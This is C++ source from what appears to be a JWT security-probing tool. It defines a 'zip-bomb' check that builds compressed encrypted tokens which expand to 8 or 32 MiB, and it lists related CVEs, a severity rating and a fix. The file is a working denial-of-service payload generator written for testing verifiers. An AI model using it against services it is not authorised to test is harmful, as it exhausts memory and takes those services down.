#include <algorithm>
#include <array>

#include "jwtkeep/jose/jwe.hpp"
#include "jwtkeep/probe/compact.hpp"
#include "jwtkeep/probe/forgeries/rows.hpp"

namespace jwtkeep::probe {
namespace {

constexpr std::array<std::string_view, 5> kZipBombReferences{"CVE-2024-28180", "CVE-2024-28176", "CVE-2024-28102",
                                                             "CVE-2024-33664", "RFC 8725 section 3.6"};

/// Compressed about a thousand times: 8 MiB fit into a header, 32 MiB into most bodies.
constexpr std::array<std::size_t, 2> kSizes{std::size_t{8} << 20, std::size_t{32} << 20};

constexpr std::size_t kMostKeys = 4;  // each token takes some tenths of a second to make

/// The good claims with as much padding behind them.
base::SecretBytes padded(const GoodToken& good, std::size_t bytes) {
  auto text = base::write_json(good.claims);
  text.pop_back();
  text += text.size() > 1 ? R"(,"padding":")" : R"("padding":")";
  return base::SecretBytes::copy_of(std::string_view(text + std::string(bytes, '0') + "\"}"));
}

Attempts make_zip_bomb(const Material& material) {
  if (material.encryption_keys.empty()) {
    return {.list = {},
            .untried =
                "no key is known by which tokens are encrypted to the verifier: give --jwks with one, an RSA key, "
                "or a secret of 32 bytes"};
  }
  Attempts attempts;
  for (std::size_t i = 0; i < std::min(material.encryption_keys.size(), kMostKeys); ++i) {
    const auto& key = material.encryption_keys[i];
    const auto enc = key.encs().empty() ? jose::Enc::A128CBC_HS256 : key.encs().front();
    for (const auto size : kSizes) {
      const auto token = jose::encrypt_compact(key, enc, base::Json::object({{"typ", "JWT"}}),
                                               padded(material.good, size), {.compress = true, .apu = {}, .apv = {}});
      if (!token) continue;
      attempts.list.push_back({.what = std::to_string(size >> 20) + " MiB of claims, compressed, by " +
                                       std::string(name(key.alg())) + (key.kid().empty() ? "" : " to " + key.kid()),
                               .token = *token,
                               .owner_signed = !key.is_public()});
    }
  }
  if (attempts.list.empty()) attempts.untried = "none of the keys encrypts such a token";
  return attempts;
}

}  // namespace

const Forgery kZipBomb{
    .id = "zip-bomb",
    .title = "Encrypted tokens that grow a thousand times (zip)",
    .severity = Severity::high,
    .judging = Judging::strain,
    .cwe = "CWE-409",
    .references = kZipBombReferences,
    .means = "a few small requests fill the memory of the service",
    .mend = "take no compressed tokens (zip), or bound what comes out of them; update the library",
    .make = make_zip_bomb,
};

}  // namespace jwtkeep::probe
